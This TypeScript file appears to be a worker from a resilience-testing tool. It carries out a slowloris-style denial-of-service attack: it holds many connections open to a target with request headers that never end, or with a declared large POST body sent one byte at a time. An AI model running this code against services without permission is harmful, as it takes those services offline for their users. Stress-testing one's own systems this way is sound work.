/** Opens connections to a service and holds each with a request that never ends: its headers do not (slowloris), or its body does not. */
import { connect, type Socket } from 'node:net';
import type { Target } from '../scenario/targets.ts';
import type { WorkerOptions } from '../scenario/worker.ts';
import { finish, lifetime, workerOptions } from './lifetime.ts';
import { reset } from './reset.ts';

const TICK_MS = 50;
/** A little more of it so often. */
const DRIP_MS = 2_000;

export interface IdleConnectionsOptions extends WorkerOptions {
  readonly target: Target;
  /** What does not end. */
  readonly endless: 'headers' | 'body';
  readonly connections: number;
  readonly openedPerSecond: number;
}

const options = workerOptions<IdleConnectionsOptions>();
const { durationMs, target, endless, connections, openedPerSecond } = options;
const life = lifetime(durationMs);
/** The beginning of a request, and what more of it comes. */
const FORMS = {
  headers: [`GET / HTTP/1.1\r\nHost: ${target.host}\r\n`, 'X-More: 1\r\n'],
  body: [
    `POST /upload HTTP/1.1\r\nHost: ${target.host}\r\nContent-Type: text/plain\r\nContent-Length: 1000000\r\n\r\n`,
    'x',
  ],
} as const;
const [beginning, more] = FORMS[endless];
const held = new Set<Socket>();
let accepted = 0;
let failure = '';

function open(): void {
  const socket = connect(target.port, target.address);
  held.add(socket);
  socket.once('connect', () => {
    accepted++;
    socket.write(beginning);
  });
  socket.on('error', (error) => {
    failure = error.message;
  });
  // Given up by the service: another one is opened in its place.
  socket.resume().once('close', () => held.delete(socket));
}

const drip = setInterval(() => {
  for (const socket of held) if (socket.writable && !socket.connecting) socket.write(more);
}, DRIP_MS);
for (let owed = 0; life.goesOn(); ) {
  owed = Math.min(connections - held.size, owed + (openedPerSecond * TICK_MS) / 1000);
  for (; owed >= 1; owed--) open();
  await life.pause(TICK_MS);
}
clearInterval(drip);
for (const socket of held) reset(socket);
finish();
if (accepted === 0) throw new Error(`${target.host} accepts no connection: ${failure}`);
